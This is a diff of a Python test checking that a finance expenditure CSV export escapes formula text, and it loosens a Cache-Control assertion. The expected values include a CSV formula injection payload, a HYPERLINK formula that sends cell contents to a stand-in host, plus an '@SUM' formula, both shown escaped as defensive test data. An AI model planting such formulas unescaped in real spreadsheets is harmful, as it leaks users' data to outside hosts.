@@ -41,7 +41,7 @@ def test_exported_expenditure_escapes_formula_text_in_every_text_column(as_user,
     response = as_user(business_support).get("/finance/export/expenditure/?format=csv")
     row = read_csv(response).dict[0]
     assert response["Content-Disposition"] == 'attachment; filename="WSCB-expenditure.csv"'
-    assert response["Cache-Control"] == "no-store"
+    assert "no-store" in response["Cache-Control"]
     assert row["Description"] == '\'=HYPERLINK("http://x?"&A1)'
     assert row["Supplier reference"] == "'@SUM(1+1)"
     assert row["Amount"] == "10.00"
